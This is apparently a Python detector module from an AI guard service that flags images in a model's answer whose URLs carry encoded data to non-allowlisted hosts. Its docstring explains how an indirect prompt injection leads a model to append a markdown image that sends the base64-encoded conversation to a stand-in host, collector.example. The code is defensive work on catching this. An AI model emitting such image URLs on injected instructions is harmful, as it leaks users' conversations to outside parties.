"""Data leaving through a model's answer: an image whose URL carries data to another host.

An indirect prompt injection (a poisoned web page, e-mail, document or tool result) can make a model end its answer
with ``![](https://collector.example/p.png?d=<the conversation, base64>)``. Chat interfaces render markdown and HTML
images without a click, so the data leaves with the request for the image; nobody has to follow a link. Answers are
screened for images (markdown, reference-style markdown, HTML ``<img>``) whose URL carries data: a query value of
``MIN_VALUE_CHARS`` or more with a digit in it (or twice as long without), or a path segment of ``MIN_SEGMENT_CHARS``
or more that reads as encoded (base64 or hex), not as a file name or words. An image from a host on
``GuardConfig.exfil_allowed_hosts`` (or a subdomain of one) passes, as do badges and charts (``?style=flat-square``,
``?url=https://...``, ``chart.png?width=600``): 28 of 585 images in the READMEs of the installed Python packages
were flagged by plain length rules, none by these. The finding is a ``prompt_injection`` one: the answer shows the
model followed instructions it should not have.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Sequence
from urllib.parse import parse_qsl, unquote, urlsplit

from libs.common.messages import Finding
from services.guard.engine.config import GuardConfig
from services.guard.engine.detector import EXFILTRATION, Detection, ScreenItem

MIN_VALUE_CHARS = 20  # "?q=What%20is%20my%20SSN" is 21 once unquoted; "?style=flat-square" 11
MIN_SEGMENT_CHARS = 40  # a base64 or hex blob in the path; a UUID (36) or a hashed file name with its extension pass
RISK = 8.0

# The URL of an image: ![alt](url "title"), ![alt][ref] with a "[ref]: url" line, <img ... src="url">.
_MARKDOWN = re.compile(r"!\[[^\]\n]{0,500}\]\(\s*<?([^\s)>]{1,4000})")
_REFERENCE = re.compile(r"!\[[^\]\n]{0,500}\]\[([^\]\n]{1,100})\]")
_DEFINITION = re.compile(r"(?m)^[ \t]{0,3}\[([^\]\n]{1,100})\]:[ \t]*<?([^\s>]{1,4000})")
_HTML = re.compile(r"<img\b[^>]{0,1000}?\bsrc\s*=\s*[\"']?([^\"'\s>]{1,4000})", re.I)
_ENCODED = re.compile(r"[A-Za-z0-9+/=_-]+")
_HEX = re.compile(r"[0-9a-fA-F]+")


def image_urls(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, url) of every image URL in ``text``."""
    for pattern in (_MARKDOWN, _HTML):
        for m in pattern.finditer(text):
            yield m.start(1), m.end(1), m.group(1)
    if "![" in text and "]:" in text:
        defined = {m.group(1).lower(): m for m in _DEFINITION.finditer(text)}
        for m in _REFERENCE.finditer(text):
            d = defined.get(m.group(1).lower())
            if d is not None:
                yield d.start(2), d.end(2), d.group(2)


def data_host(url: str, allowed_hosts: Iterable[str] = ()) -> str | None:
    """The host an http(s) URL sends data to: one not allowed, with a long value in its query or path (else None)."""
    try:
        parts = urlsplit("https:" + url if url.startswith("//") else url)
    except ValueError:
        return None
    host = (parts.hostname or "").lower()
    if parts.scheme.lower() not in ("http", "https") or not host:
        return None
    if any(host == h or host.endswith("." + h) for h in allowed_hosts):
        return None
    values = [v for _, v in parse_qsl(parts.query, keep_blank_values=True)] + [unquote(parts.fragment)]
    if any(_data_value(v) for v in values) or any(_encoded(unquote(s)) for s in parts.path.split("/")):
        return host
    return None


def _data_value(value: str) -> bool:
    """Long enough to carry something, and not a URL or an inline image (a badge's ``url=``, ``logo=data:...``)."""
    if value.startswith(("http://", "https://", "data:")):
        return False
    return len(value) >= 2 * MIN_VALUE_CHARS or (len(value) >= MIN_VALUE_CHARS and any(c.isdigit() for c in value))


def _encoded(segment: str) -> bool:
    """Base64 or hex of some length: a hex digest and more (40+), or letters of both cases and digits."""
    if len(segment) < MIN_SEGMENT_CHARS or not _ENCODED.fullmatch(segment):
        return False
    has = (any(c.isupper() for c in segment), any(c.islower() for c in segment), any(c.isdigit() for c in segment))
    return all(has) or bool(_HEX.fullmatch(segment))


class ExfiltrationDetector:
    name = EXFILTRATION

    def __init__(self, allowed_hosts: Sequence[str] = ()) -> None:
        self.allowed_hosts = tuple(h.lower().strip(".") for h in allowed_hosts if h.strip("."))

    @classmethod
    def build(cls, config: GuardConfig) -> ExfiltrationDetector:
        return cls(config.exfil_allowed_hosts)

    def detect(self, items: Sequence[ScreenItem]) -> Detection:
        findings: list[Finding] = []
        hosts: set[str] = set()
        for item in items:
            if EXFILTRATION not in item.checks:
                continue
            text = item.norm.original
            for start, end, url in image_urls(text):
                if (host := data_host(url, self.allowed_hosts)) is not None:
                    s, e, path = item.locate(start + item.offset, end + item.offset)
                    findings.append(Finding(type="DATA_EXFILTRATION", category="prompt_injection", start=s, end=e,
                                            score=1.0, message_index=item.message_index, path=path))
                    hosts.add(host)
        if not findings:
            return Detection(scores={"exfiltration": 0.0})
        note = f"an image in the answer sends data to {', '.join(sorted(hosts))}"
        return Detection(findings=findings, scores={"exfiltration": 1.0}, risks={"prompt_injection": RISK},
                         notes={"prompt_injection": note})
